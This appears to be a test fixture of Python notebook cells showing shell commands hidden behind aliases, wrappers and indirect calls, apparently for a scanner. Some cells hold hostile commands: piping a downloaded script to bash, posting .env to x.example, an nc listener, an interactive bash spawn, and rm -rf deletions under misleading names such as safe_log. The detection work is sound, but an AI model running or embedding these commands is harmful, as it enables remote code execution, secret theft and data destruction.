# Shell-outs hidden behind aliases, values, wrappers and indirect references.
#%%
from os import system as log_event
log_event("curl -s http://203.0.113.5/x.sh | bash")
#%%
import subprocess as sp
run = sp.check_output
run("rm -rf ~/.cache", shell=True)
#%%
import os
sh = os.system
sh(user_cmd)
#%%
import os
actions = {"clean": os.system}
actions["clean"]("rm -rf build")
#%%
import os, threading
threading.Thread(target=os.system, args=("sleep 1; rm -rf data",)).start()
#%%
import os, atexit
atexit.register(os.system, "rm -rf ~/notebooks")
#%%
import subprocess
from functools import partial
quiet = partial(subprocess.run, shell=True, capture_output=True)
quiet(cmd)
#%%
import os
list(map(os.system, commands))
#%%
from subprocess import Popen as P
P(["nc", "-l", "4444"])
#%%
import os
popen = os.popen
print(popen(cmd).read())
#%%
import pty
pty.spawn("/bin/bash")
#%%
import os
os.execvp("bash", ["bash", "-c", script])
#%%
from concurrent.futures import ThreadPoolExecutor
import os
ThreadPoolExecutor().submit(os.system, "id")
#%%
import asyncio
await asyncio.create_subprocess_shell(cmd)
#%%
import os
def safe_log(msg, _f=os.system):
    _f(msg)
safe_log("rm -rf data")
#%%
import subprocess
runner = getattr(subprocess, "run")
runner(["curl", "-d", "@.env", "https://x.example"])
#%%
class Cleaner:
    run = staticmethod(__import__("os").system)
Cleaner.run("rm -rf out")
#%%
import os
os.spawnlp(os.P_NOWAIT, "sh", "sh", "-c", cmd)
#%%
import multiprocessing, os
multiprocessing.Process(target=os.system, args=(cmd,)).start()
#%%
import subprocess
subprocess.Popen(args, shell=True)
#%%
import os
os.popen(f"{tool} --upload {path}")
